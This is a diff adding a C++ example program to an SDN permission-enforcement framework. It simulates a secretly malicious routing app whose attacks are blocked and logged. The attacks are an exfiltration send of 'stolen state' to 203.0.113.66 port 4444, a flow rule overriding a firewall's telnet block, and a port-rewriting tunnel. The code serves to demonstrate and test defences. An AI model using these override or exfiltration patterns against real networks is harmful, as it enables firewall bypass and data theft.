@@ -1,0 +1,99 @@
+// Scenario 2 (paper §VII): a routing app with hidden malicious logic. Under
+// `insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS` it routes traffic
+// perfectly well, but its stealth attacks — leaking to the outside,
+// overriding the firewall's rules, establishing a dynamic-flow tunnel — are
+// all rejected, and everything it does is in the audit log.
+//
+// Build & run:  ./build/examples/malicious_routing
+#include <chrono>
+#include <cstdio>
+
+#include "apps/firewall.h"
+#include "apps/routing.h"
+#include "core/lang/perm_parser.h"
+#include "isolation/api_proxy.h"
+#include "switchsim/sim_network.h"
+
+using namespace sdnshield;
+using namespace std::chrono_literals;
+
+int main() {
+  ctrl::Controller controller;
+  sim::SimNetwork network(controller);
+  network.buildLinear(3);
+  auto h1 = network.hostByIp(of::Ipv4Address(10, 0, 0, 1));
+  auto h3 = network.hostByIp(of::Ipv4Address(10, 0, 0, 3));
+
+  iso::ShieldRuntime shield(controller);
+
+  // The firewall is deployed first and blocks telnet at the chokepoint.
+  auto firewall = std::make_shared<apps::FirewallApp>();
+  shield.loadApp(firewall,
+                 lang::parsePermissions(firewall->requestedManifest()));
+  firewall->blockTcpDstPort(2, 23);
+
+  // The (secretly malicious) routing app gets exactly Scenario 2's grant.
+  auto routing = std::make_shared<apps::ShortestPathRoutingApp>();
+  of::AppId routingId = shield.loadApp(
+      routing, lang::parsePermissions(routing->requestedManifest()));
+  std::printf("routing app loaded with:\n%s\n",
+              routing->requestedManifest().c_str());
+
+  // Benign duty: HTTP flows end to end.
+  h1->send(of::Packet::makeTcp(h1->mac(), h3->mac(), h1->ip(), h3->ip(), 40000,
+                               80, of::tcpflags::kSyn));
+  bool delivered = h3->waitForPackets(1, 2000ms);
+  std::printf("legitimate HTTP h1->h3: %s (%llu path(s) installed)\n",
+              delivered ? "DELIVERED" : "lost",
+              static_cast<unsigned long long>(routing->pathsInstalled()));
+
+  // Malicious phase: the app's hidden logic strikes. We drive it through
+  // the app's own context, on its own thread, as the embedded logic would.
+  std::printf("\n== Hidden malicious logic fires ==\n");
+  shield.container(routingId)->postAndWait([&] {
+    // Class 2: leak to the outside. The app never got host_network, so the
+    // reference monitor stops it ("the routing app cannot communicate with
+    // the outside world").
+    bool leaked = shield.referenceMonitor().netSend(
+        of::Ipv4Address(203, 0, 113, 66), 4444, "stolen state");
+    std::printf("  exfiltration attempt: %s\n", leaked ? "LEAKED" : "blocked");
+  });
+
+  // Class 3/4: override the firewall's drop rule. The app issues it through
+  // its own mediated API; OWN_FLOWS rejects the foreign-rule shadowing.
+  of::FlowMod overrideRule;
+  overrideRule.match.ipProto = 6;
+  overrideRule.match.tpDst = 23;
+  overrideRule.priority = 200;
+  overrideRule.actions.push_back(of::OutputAction{2});
+  auto compiled = shield.engine().compiled(routingId);
+  perm::ApiCall overrideCall =
+      perm::ApiCall::insertFlow(routingId, 2, overrideRule);
+  overrideCall.ownFlow = !controller.ownership().overridesForeignFlow(
+      routingId, 2, overrideRule.match, overrideRule.priority);
+  std::printf("  firewall override attempt: %s\n",
+              compiled->check(overrideCall).allowed ? "INSTALLED" : "blocked");
+
+  // Dynamic-flow tunnel (Class 4): header rewriting violates ACTION FORWARD.
+  of::FlowMod tunnelEntry;
+  tunnelEntry.match.ipProto = 6;
+  tunnelEntry.match.tpDst = 23;
+  tunnelEntry.priority = 250;
+  of::SetFieldAction rewrite;
+  rewrite.field = of::MatchField::kTpDst;
+  rewrite.intValue = 80;
+  tunnelEntry.actions.push_back(rewrite);
+  tunnelEntry.actions.push_back(of::OutputAction{2});
+  perm::ApiCall tunnelCall =
+      perm::ApiCall::insertFlow(routingId, 1, tunnelEntry);
+  std::printf("  dynamic-flow tunnel attempt: %s\n",
+              compiled->check(tunnelCall).allowed ? "INSTALLED" : "blocked");
+
+  // Activity logging for forensics (the paper's third protection level).
+  std::printf("\naudit log: %llu calls recorded for the routing app, %llu "
+              "denied overall\n",
+              static_cast<unsigned long long>(
+                  controller.audit().entriesFor(routingId).size()),
+              static_cast<unsigned long long>(controller.audit().deniedCount()));
+  return 0;
+}
